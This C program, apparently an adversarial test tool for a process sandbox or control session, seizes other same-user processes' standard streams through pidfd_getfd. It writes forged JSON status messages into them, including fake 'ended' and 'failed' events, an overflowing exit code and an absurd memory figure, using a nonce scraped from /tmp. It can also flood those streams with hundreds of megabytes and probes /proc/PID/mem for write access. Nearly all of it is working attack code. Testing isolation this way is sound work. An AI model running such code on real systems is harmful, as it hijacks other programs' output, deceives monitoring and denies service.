// forge WHAT: takes the standard streams of other processes of the same user with pidfd_getfd, and writes forged messages of
// the control session to them. The nonce is that of a folder /tmp/mcc-NONCE, if there is one. Prints what it could reach.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define ENDED "{\"nonce\":\"%s\",\"event\":\"ended\",\"exit\":{\"code\":%s},\"memory_kib\":%s,\"oom_kills\":0,\"left_behind\":0}\n"

static char block[1 << 20];

static int is_own(int fd) {
    struct stat that, own;
    if (fstat(fd, &that)) return 1;
    for (int n = 0; n < 3; n++)
        if (!fstat(n, &own) && own.st_dev == that.st_dev && own.st_ino == that.st_ino) return 1;
    return 0;
}

static void flood(int fd, int mebibytes) {
    memset(block, 'x', sizeof block);
    for (int n = 0; n < mebibytes; n++)
        if (write(fd, block, sizeof block) <= 0) break;
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "";
    int flooded = !strcmp(what, "log"), taken = 0;
    char nonce[256] = "";
    struct dirent *entry;
    DIR *folder = opendir("/tmp");
    while (folder && (entry = readdir(folder)))
        if (!strncmp(entry->d_name, "mcc-", 4)) strcpy(nonce, entry->d_name + 4);
    folder = opendir("/proc");
    while (folder && (entry = readdir(folder))) {
        int process = atoi(entry->d_name);
        if (process <= 1 || process == getpid() || process == getppid()) continue;
        char path[64];
        sprintf(path, "/proc/%d/mem", process);
        if (open(path, O_RDWR) >= 0) dprintf(2, "memory of %d\n", process);
        int pidfd = syscall(SYS_pidfd_open, process, 0);
        int fd = syscall(SYS_pidfd_getfd, pidfd, flooded ? 2 : 1, 0);
        if (fd < 0 || is_own(fd)) continue;
        taken++;
        if (flooded) flood(fd, 300);
        if (!strcmp(what, "line")) flood(fd, 3);
        if (!strcmp(what, "failed")) dprintf(fd, "{\"nonce\":\"%s\",\"event\":\"failed\",\"reason\":\"forged\"}\n", nonce);
        if (!strcmp(what, "ended")) dprintf(fd, ENDED, nonce, "0", "1");
        if (!strcmp(what, "code")) dprintf(fd, ENDED, nonce, "-2147483648", "1");
        if (!strcmp(what, "memory")) dprintf(fd, ENDED, nonce, "0", "18446744073709551615");
    }
    dprintf(2, "taken %d\n", taken);
    return 0;
}
